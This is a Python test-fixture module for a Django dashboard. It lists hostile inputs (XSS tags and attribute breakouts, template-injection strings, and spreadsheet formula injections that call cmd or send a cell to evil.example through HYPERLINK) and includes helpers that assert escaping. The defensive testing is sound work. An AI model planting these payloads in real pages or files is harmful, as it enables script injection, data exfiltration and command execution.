"""Hostile strings that workers, CSV files and colleagues can put into the dashboard.

Each entry has a name (the test id), the value, and `raw`: a fragment that must never reach an
HTML page unescaped (empty when the string is dangerous only in spreadsheets or by its size).
"""

from __future__ import annotations

from dataclasses import dataclass

from django.utils.html import escape


@dataclass(frozen=True)
class Hostile:
    name: str
    value: str
    raw: str = ""


MARKUP = [
    Hostile("script-tag", "<script>alert('xss')</script>", "<script>alert("),
    Hostile("img-onerror", "<img src=x onerror=alert(1)>", "<img src=x onerror"),
    Hostile("svg-onload", "<svg onload=alert(1)><circle r=1></svg>", "<svg onload"),
    Hostile("javascript-link", "javascript:alert(1)", ""),
    Hostile("attribute-breakout", '" autofocus onfocus="alert(1)', '" autofocus onfocus="'),
    Hostile("closing-textarea", "</textarea><script>alert(2)</script>", "</textarea><script>"),
    Hostile("iframe", "<iframe src=javascript:alert(3)></iframe>", "<iframe src=javascript"),
]
TEMPLATE_SYNTAX = [
    Hostile("django-variable", "{{ 7*7 }} {{ request.user.password }}"),
    Hostile("django-tag", "{% debug %}{% load static %}"),
    Hostile("mturk-variable", "${column} ${image_url}"),
]
FORMULAS = [
    Hostile("formula-hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    Hostile("formula-plus", "+1+cmd|' /C calc'!A0"),
    Hostile("formula-minus", "-2+3"),
    Hostile("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Hostile("formula-tab", "\t=1+1"),
]
ODD_TEXT = [
    Hostile("control-characters", "before\x1b[31mred\x7fafter\x07"),
    Hostile("nul-byte", "nul\x00byte"),
    Hostile("rtl-override", "invoice\u202egnp.exe"),
    Hostile("zero-width", "ze\u200bro\u200dwi\ufeffdth"),
    Hostile("very-long", "A" * 100_000),
]

ALL = MARKUP + TEMPLATE_SYNTAX + FORMULAS + ODD_TEXT
BY_NAME = {h.name: h for h in ALL}

# Where one value carries them all (a page showing many strings at once).
COMBINED = " | ".join(h.value for h in MARKUP + TEMPLATE_SYNTAX) + " | \u202e | \u200b"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def assert_escaped(html: str, value: str, *, shown: bool = True) -> None:
    """No hostile markup fragment of `value` appears raw in `html`; when `shown`, the value
    appears as escaped text (so template syntax was not run either)."""
    for hostile in ALL:
        if hostile.raw and hostile.raw in value:
            assert hostile.raw not in html, f"{hostile.name} appears unescaped"
    if shown:
        assert escape(value) in html, f"{value[:40]!r} is not shown as text"


def assert_neutralised(cell: str) -> None:
    """A CSV cell never starts with something a spreadsheet would run as a formula."""
    assert not cell.startswith(FORMULA_STARTS), f"formula not neutralised: {cell[:40]!r}"
